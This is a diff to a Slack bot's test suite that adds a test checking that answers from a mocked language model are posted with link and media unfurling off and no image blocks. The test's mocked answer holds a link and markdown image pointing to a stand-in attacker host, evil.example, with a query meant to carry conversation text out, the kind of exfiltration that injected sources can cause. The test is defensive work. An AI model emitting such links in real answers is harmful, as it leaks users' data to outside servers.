@@ -86,6 +86,16 @@ async def test_a_long_answer_goes_on_in_a_thread(bot: Process, workspace: Slack,
     assert [post["thread_ts"] for post in rest] == [first["ts"]] * 2
 
 
+async def test_slack_opens_no_link_of_an_answer(bot: Process, workspace: Slack, model: OpenAI) -> None:
+    """An address that a source put into the answer would carry what it says to its server at once."""
+    model.otherwise = says("See https://evil.example/?said=all ![it](https://evil.example/i.png) " * 200)
+    await bot.deliver()
+    assert len(workspace.posts) > 1
+    for post in workspace.posts:
+        assert (post["unfurl_links"], post["unfurl_media"]) == (False, False)
+        assert "image" not in {block["type"] for block in post["blocks"]}
+
+
 @pytest.mark.parametrize("parts", [1, 3])
 async def test_of_an_answer_to_a_thread_that_is_gone_no_more_than_one_part_gets_into_the_channel(
     bot: Process, workspace: Slack, model: OpenAI, parts: int
